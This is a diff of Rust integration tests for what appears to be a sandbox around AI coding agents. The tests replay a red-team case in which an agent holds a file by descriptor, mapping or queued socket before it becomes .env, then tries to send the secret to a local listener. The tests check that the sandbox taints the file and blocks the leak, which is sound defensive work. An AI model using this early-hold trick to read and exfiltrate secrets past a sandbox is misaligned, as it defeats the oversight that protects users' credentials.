@@ -2870,3 +2870,120 @@ fn isolated_files_outside_opens_of_a_tripwire_are_answered_while_the_agent_flood
         "an outside open waited {worst:?}"
     );
 }
+
+/// Is some fanotify group of process `pid` marking the inode of `path`?
+fn marked_by(pid: u32, path: &std::path::Path) -> bool {
+    use std::os::unix::fs::MetadataExt;
+    let Ok(m) = std::fs::metadata(path) else {
+        return false;
+    };
+    let ino = format!("ino:{:x} ", m.ino());
+    std::fs::read_dir(format!("/proc/{pid}/fdinfo"))
+        .into_iter()
+        .flatten()
+        .flatten()
+        .any(|e| {
+            std::fs::read_to_string(e.path())
+                .is_ok_and(|t| t.lines().any(|l| l.starts_with("fanotify ") && l.contains(&ino)))
+        })
+}
+
+/// watcher-window-early-open (red team round 4), made deterministic: the agent
+/// holds an ordinary file (`how`: a descriptor, a shared mapping, a descriptor in
+/// flight in a socket's queue) when the user's tool renames it to `.env` and
+/// writes the secret into it; the watcher's mark meets only later opens, so the
+/// late mark must find what the sandbox holds and decide a read for it first.
+fn early_hold_taints(how: &str, ip: &str) {
+    if !kernel_opens() {
+        eprintln!(
+            "not run: late marks are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root); mediated mode decides opens by name and has no marks (docs/threat-model.md)"
+        );
+        return;
+    }
+    let f = Fixture::new(&format!("iso-early-{how}")).with_attack();
+    std::fs::write(f.ws.join("draft"), vec![0u8; 4096]).unwrap();
+    let server = Tcp::new(ip, 443);
+    let script =
+        format!("./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; ./attack earlyhold {how} draft {ip} 443");
+    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
+    cmd.stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let child = cmd.spawn().unwrap();
+    let pid = child.id();
+    let start = std::time::Instant::now();
+    while !f.ws.join("held").exists() && start.elapsed() < Duration::from_secs(60) {
+        std::thread::sleep(Duration::from_millis(5));
+    }
+    let held = f.ws.join("held").exists();
+    if held {
+        // The user's tool: `draft` becomes `.env`, then the secret goes in.
+        std::fs::rename(f.ws.join("draft"), f.ws.join(".env")).unwrap();
+        let t = std::time::Instant::now();
+        while !marked_by(pid, &f.ws.join(".env")) && t.elapsed() < Duration::from_secs(30) {
+            std::thread::sleep(Duration::from_millis(1));
+        }
+        assert!(
+            marked_by(pid, &f.ws.join(".env")),
+            "the watcher did not mark .env"
+        );
+        std::thread::sleep(Duration::from_millis(300));
+        use std::os::unix::fs::FileExt;
+        let w = std::fs::OpenOptions::new()
+            .write(true)
+            .open(f.ws.join(".env"))
+            .unwrap();
+        w.write_all_at(b"SECRET-ENV-early-held-5150\n", 0).unwrap();
+        drop(w);
+    }
+    std::fs::write(f.ws.join("go"), "").unwrap();
+    let o = wait_with_deadline(child, Duration::from_secs(120));
+    let out = stdout(&o);
+    let got = server.received();
+    assert!(held, "the agent never held the file\n{}", show(&o));
+    assert!(
+        got.starts_with("PRE-TAINT-CHANNEL-OK"),
+        "the channel did not work: {got:?}\n{}",
+        show(&o)
+    );
+    if how == "inflight" {
+        // Passed into the queue and closed; after the taint the socket that holds
+        // it is shut (its receive is refused), which is the taint too.
+        assert!(
+            out.contains("earlyhold pass: ok=1") && out.contains("earlyhold receive: "),
+            "the attack did not run\n{}",
+            show(&o)
+        );
+    } else {
+        assert!(
+            out.contains("earlyhold read: ") && !out.contains("earlyhold read: -1"),
+            "the attack did not read\n{}",
+            show(&o)
+        );
+    }
+    assert!(
+        !got.contains("LEAK:"),
+        "the secret left the sandbox: {got:?}\n{}",
+        show(&o)
+    );
+    assert!(
+        out.contains("socket: errno=") || out.contains("earlyhold connect: errno="),
+        "not tainted\n{}",
+        show(&o)
+    );
+    kernel_decided(&o);
+}
+
+#[test]
+fn isolated_files_a_descriptor_held_before_the_mark_taints_when_it_lands() {
+    early_hold_taints("fd", "127.77.16.60");
+}
+
+#[test]
+fn isolated_files_a_mapping_held_before_the_mark_taints_when_it_lands() {
+    early_hold_taints("map", "127.77.16.61");
+}
+
+#[test]
+fn isolated_files_a_descriptor_in_flight_before_the_mark_taints_when_it_lands() {
+    early_hold_taints("inflight", "127.77.16.62");
+}
